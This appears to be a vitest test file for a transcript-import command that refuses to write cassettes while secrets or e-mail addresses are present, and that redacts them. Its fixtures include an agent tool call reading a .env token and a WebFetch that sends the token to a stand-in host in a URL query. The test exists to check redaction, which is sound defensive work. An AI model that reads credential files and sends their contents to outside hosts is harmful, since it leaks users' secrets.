import { afterEach, describe, expect, test } from "vitest";
import { importProject, REPEAT, said, told, type ImportProject } from "../../helpers/import-project.js";
import { asClaudeCode, type Told, type ToldCall } from "../../helpers/transcripts.js";

let project: ImportProject;
afterEach(() => project.end());

/** A token of GitHub's shape, which nobody has. */
const KEY = `ghp_${"a1B2c3D4e5F6g7H8i9"}${"k1L2m3N4o5P6q7R8s9"}`;

describe("secrets and e-mail addresses are shown before anything is written", () => {
  const read: ToldCall = { server: null, tool: "Read", input: { file_path: ".env" }, result: `TOKEN=${KEY}` };
  const post: ToldCall = { ...read, tool: "WebFetch", input: { url: `https://x.example/?key=${KEY}` }, result: "ok" };
  const [mail, secret] = ["e-mail address a…@corp-mail.dev", "the secret"];
  const planted: [string, Told, string][] = [
    ["an argument", told(said("say", { to: "ann@corp-mail.dev" })), mail],
    ["a key in an argument", told(said("say", { key: KEY })), secret],
    ["a result of another tool", told(said("say", { a: 1 }), read), secret],
    ["an argument of another tool", told(said("say", { a: 1 }), post), secret],
    ["the prompt", { ...told(said("say", { a: 1 })), prompt: `Mail ann@corp-mail.dev with ${KEY}` }, mail],
    ["the answer", { ...told(said("say", { a: 1 })), answer: `I used ${KEY}.` }, secret],
    ["a text between", { ...told(), turns: [{ text: `Now ${KEY}.`, calls: [said("say", { a: 1 })] }] }, secret],
    ["the name of a key", told(said("say", { [KEY]: 1 })), secret],
  ];

  test.each(planted)("in %s: exit 2, until --yes; a secret is never written", async (_place, run, found) => {
    project = await importProject(REPEAT, { "run.jsonl": asClaudeCode(run) });
    const { mcpvals, hasCassettes, read: readIn, written } = project;
    const before = await readIn("mcp-eval.config.json");
    const refused = await mcpvals("import", "run.jsonl");
    expect([refused.code, refused.stderr]).toEqual([2, expect.stringContaining(found)]);
    expect(refused.stderr + refused.stdout).not.toContain(KEY);
    expect([await readIn("mcp-eval.config.json"), hasCassettes()]).toEqual([before, false]);
    const { stdout, stderr } = await mcpvals("import", "run.jsonl", "--yes");
    expect(hasCassettes()).toBe(true);
    expect([...(await written()).values(), stdout, stderr].join("\n")).not.toContain(KEY);
  });
});
